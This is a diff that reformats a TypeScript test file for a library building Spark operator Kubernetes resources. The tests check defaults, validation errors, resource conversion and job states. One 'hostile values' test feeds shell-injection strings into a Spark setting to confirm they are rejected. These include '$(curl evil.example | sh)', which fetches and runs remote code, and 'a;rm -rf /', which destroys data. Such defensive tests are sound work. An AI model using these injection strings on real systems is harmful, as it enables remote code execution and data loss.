@@ -33,7 +33,13 @@ describe('SparkApplication (spec §9.4 worked example)', () => {
   });
 
   it('defaults like the SDK: one executor of 1 core / 512m, no arguments or sparkConf keys', () => {
-    const app = buildSparkApplication({ name: 'spark-job-00000000', namespace: 'default', mainApplicationFile: 'local:///opt/spark/examples/src/main/python/pi.py', arguments: [], sparkConf: {} });
+    const app = buildSparkApplication({
+      name: 'spark-job-00000000',
+      namespace: 'default',
+      mainApplicationFile: 'local:///opt/spark/examples/src/main/python/pi.py',
+      arguments: [],
+      sparkConf: {},
+    });
     expect(app.spec).toEqual({
       driver: { cores: 1, memory: '512m', serviceAccount: 'spark-operator-spark' },
       executor: { cores: 1, instances: 1, memory: '512m' },
@@ -68,16 +74,32 @@ describe('SparkApplication (spec §9.4 worked example)', () => {
     // Spark decides the executor count: none is fixed.
     expect(app.spec.executor).toEqual({ cores: 1, env: expect.any(Array), memory: '512m' });
     expect(app.spec.driver).toMatchObject({ cores: 1, memory: '1536m', serviceAccount: 'spark' });
-    expect(app.spec.driver.env).toEqual([{ name: 'AWS_ACCESS_KEY_ID', valueFrom: { secretKeyRef: { name: 's3-creds', key: 'key' } } }, { name: 'REGION', value: 'eu-west-1' }]);
+    expect(app.spec.driver.env).toEqual([
+      { name: 'AWS_ACCESS_KEY_ID', valueFrom: { secretKeyRef: { name: 's3-creds', key: 'key' } } },
+      { name: 'REGION', value: 'eu-west-1' },
+    ]);
     expect(JSON.stringify(app)).not.toContain('secret:');
     expect(app.spec.mainClass).toBe('org.apache.spark.examples.SparkPi');
     expect(validateSpark(app)).toEqual([]);
   });
 
   it('refuses what cannot run, naming the field: a JVM app without main class, bad dynamic allocation bounds', () => {
-    expect(thrown(() => buildSparkApplication({ name: 'x', namespace: 'n', mainApplicationFile: 'a.jar', type: 'Scala' }), SparkError)).toMatchObject({ code: 'main_class_required', field: 'main_class' });
-    expect(thrown(() => buildSparkApplication({ name: 'x', namespace: 'n', mainApplicationFile: 'a.py', dynamicAllocation: { minExecutors: 5, maxExecutors: 2 } }), SparkError)).toMatchObject({ code: 'invalid_dynamic_allocation' });
-    expect(thrown(() => buildSparkApplication({ name: 'x', namespace: 'n', mainApplicationFile: 'a.py', numExecutors: 9, dynamicAllocation: { maxExecutors: 4 } }), SparkError)).toMatchObject({ code: 'invalid_dynamic_allocation' });
+    expect(thrown(() => buildSparkApplication({ name: 'x', namespace: 'n', mainApplicationFile: 'a.jar', type: 'Scala' }), SparkError)).toMatchObject({
+      code: 'main_class_required',
+      field: 'main_class',
+    });
+    expect(
+      thrown(
+        () => buildSparkApplication({ name: 'x', namespace: 'n', mainApplicationFile: 'a.py', dynamicAllocation: { minExecutors: 5, maxExecutors: 2 } }),
+        SparkError,
+      ),
+    ).toMatchObject({ code: 'invalid_dynamic_allocation' });
+    expect(
+      thrown(
+        () => buildSparkApplication({ name: 'x', namespace: 'n', mainApplicationFile: 'a.py', numExecutors: 9, dynamicAllocation: { maxExecutors: 4 } }),
+        SparkError,
+      ),
+    ).toMatchObject({ code: 'invalid_dynamic_allocation' });
   });
 
   it('infers the application type from the file instead of always sending Python', () => {
@@ -95,13 +117,23 @@ describe('SparkConnect (spec §9.4, connect())', () => {
     '{"apiVersion":"sparkoperator.k8s.io/v1alpha1","kind":"SparkConnect","metadata":{"name":"spark-connect-5d0e7b21","namespace":"team-a"},"spec":{"executor":{"cores":1,"instances":2,"memory":"1g"},"image":"apache/spark:4.0.4","server":{"cores":1,"memory":"512m","template":{"spec":{"containers":[],"serviceAccountName":"spark-operator-spark"}}},"sparkConf":{"spark.jars":"https://repo1.maven.org/maven2/org/apache/spark/spark-connect_2.13/4.0.4/spark-connect_2.13-4.0.4.jar","spark.connect.grpc.binding.address":"0.0.0.0"},"sparkVersion":"4.0.4"}}';
 
   it('is the SDK body byte for byte', () => {
-    const s = buildSparkConnect({ name: 'spark-connect-5d0e7b21', namespace: 'team-a', numExecutors: 2, executorResources: { cpu: '1', memory: '1Gi' }, serviceAccount: 'spark-operator-spark' });
+    const s = buildSparkConnect({
+      name: 'spark-connect-5d0e7b21',
+      namespace: 'team-a',
+      numExecutors: 2,
+      executorResources: { cpu: '1', memory: '1Gi' },
+      serviceAccount: 'spark-operator-spark',
+    });
     expect(JSON.stringify(s)).toBe(golden);
     expect(validateSpark(s)).toEqual([]);
   });
 
   it("appends the user's spark.jars after the connect jar and lets other keys override the binding address", () => {
-    const s = buildSparkConnect({ name: 's', namespace: 'n', sparkConf: { 'spark.jars': 's3a://x/y.jar', 'spark.connect.grpc.binding.address': '127.0.0.1', 'spark.sql.ansi.enabled': 'true' } });
+    const s = buildSparkConnect({
+      name: 's',
+      namespace: 'n',
+      sparkConf: { 'spark.jars': 's3a://x/y.jar', 'spark.connect.grpc.binding.address': '127.0.0.1', 'spark.sql.ansi.enabled': 'true' },
+    });
     expect(Object.entries(s.spec.sparkConf!)).toEqual([
       ['spark.jars', 'https://repo1.maven.org/maven2/org/apache/spark/spark-connect_2.13/4.0.4/spark-connect_2.13-4.0.4.jar,s3a://x/y.jar'],
       ['spark.connect.grpc.binding.address', '127.0.0.1'],
@@ -152,7 +184,10 @@ describe('resources, as the SDK converts them', () => {
     expect(thrown(() => sparkCores('lots', 'cpu'), SparkError)).toMatchObject({ code: 'invalid_cpu' });
     expect(thrown(() => sparkMemory('1024', 'memory'), SparkError)).toMatchObject({ code: 'invalid_memory' });
     expect(thrown(() => sparkMemory('a lot', 'memory'), SparkError)).toMatchObject({ code: 'invalid_memory' });
-    expect(thrown(() => sparkResources({ cpu: 1, 'nvidia.com/gpu': 1 } as never, 'executor_resources'), SparkError)).toMatchObject({ code: 'unsupported_resource', field: 'executor_resources.nvidia.com/gpu' });
+    expect(thrown(() => sparkResources({ cpu: 1, 'nvidia.com/gpu': 1 } as never, 'executor_resources'), SparkError)).toMatchObject({
+      code: 'unsupported_resource',
+      field: 'executor_resources.nvidia.com/gpu',
+    });
   });
 });
 
@@ -181,11 +216,20 @@ describe('states (spec §8.6, §9.2)', () => {
   });
 
   it('only COMPLETED, FAILED and SUBMISSION_FAILED end a wait', () => {
-    expect(['COMPLETED', 'FAILED', 'SUBMISSION_FAILED', 'PENDING_RERUN', 'UNKNOWN', 'FAILING', 'SUSPENDED'].filter(isFinal)).toEqual(['COMPLETED', 'FAILED', 'SUBMISSION_FAILED']);
+    expect(['COMPLETED', 'FAILED', 'SUBMISSION_FAILED', 'PENDING_RERUN', 'UNKNOWN', 'FAILING', 'SUSPENDED'].filter(isFinal)).toEqual([
+      'COMPLETED',
+      'FAILED',
+      'SUBMISSION_FAILED',
+    ]);
   });
 
   it('finds the driver pod as the operator names it', () => {
-    const base = { apiVersion: 'x', kind: 'SparkApplication', metadata: { name: 'app' }, spec: { driver: {}, executor: {}, mainApplicationFile: 'a', sparkVersion: '4', type: 'Python' as const } };
+    const base = {
+      apiVersion: 'x',
+      kind: 'SparkApplication',
+      metadata: { name: 'app' },
+      spec: { driver: {}, executor: {}, mainApplicationFile: 'a', sparkVersion: '4', type: 'Python' as const },
+    };
     expect(driverPodName(base)).toBe('app-driver');
     expect(driverPodName({ ...base, spec: { ...base.spec, sparkConf: { 'spark.kubernetes.driver.pod.name': 'custom' } } })).toBe('custom');
     expect(driverPodName({ ...base, spec: { ...base.spec, driver: { podName: 'mine' } } })).toBe('mine');
@@ -205,12 +249,31 @@ describe('states (spec §8.6, §9.2)', () => {
 });
 
 describe('hostile values', () => {
-  it.each([['$(curl evil.example | sh)'], ['a;rm -rf /'], ['`id`'], ['x && y'], ['two words'], ["it's"], ['a\nb']])('a session setting %j is refused, not passed to the operator\'s shell', (v) => {
-    expect(thrown(() => buildSparkConnect({ name: 's', namespace: 'n', sparkConf: { 'spark.sql.x': v } }), SparkError)).toMatchObject({ code: 'unsafe_spark_conf', field: 'spark_conf.spark.sql.x' });
-  });
+  it.each([['$(curl evil.example | sh)'], ['a;rm -rf /'], ['`id`'], ['x && y'], ['two words'], ["it's"], ['a\nb']])(
+    "a session setting %j is refused, not passed to the operator's shell",
+    (v) => {
+      expect(thrown(() => buildSparkConnect({ name: 's', namespace: 'n', sparkConf: { 'spark.sql.x': v } }), SparkError)).toMatchObject({
+        code: 'unsafe_spark_conf',
+        field: 'spark_conf.spark.sql.x',
+      });
+    },
+  );
 
   it('plain values pass, and job settings (no shell in the way) are not restricted', () => {
-    expect(buildSparkConnect({ name: 's', namespace: 'n', sparkConf: { 'spark.jars': 's3a://b/x.jar,https://repo/y.jar', 'spark.executor.memoryOverhead': '512m', 'spark.hadoop.fs.s3a.endpoint': 'http://minio:9000' } }).spec.sparkConf).toBeDefined();
-    expect(buildSparkApplication({ name: 'j', namespace: 'n', mainApplicationFile: 'a.py', sparkConf: { 'spark.driver.extraJavaOptions': '-Da=b -Dc=d' } }).spec.sparkConf).toEqual({ 'spark.driver.extraJavaOptions': '-Da=b -Dc=d' });
+    expect(
+      buildSparkConnect({
+        name: 's',
+        namespace: 'n',
+        sparkConf: {
+          'spark.jars': 's3a://b/x.jar,https://repo/y.jar',
+          'spark.executor.memoryOverhead': '512m',
+          'spark.hadoop.fs.s3a.endpoint': 'http://minio:9000',
+        },
+      }).spec.sparkConf,
+    ).toBeDefined();
+    expect(
+      buildSparkApplication({ name: 'j', namespace: 'n', mainApplicationFile: 'a.py', sparkConf: { 'spark.driver.extraJavaOptions': '-Da=b -Dc=d' } }).spec
+        .sparkConf,
+    ).toEqual({ 'spark.driver.extraJavaOptions': '-Da=b -Dc=d' });
   });
 });
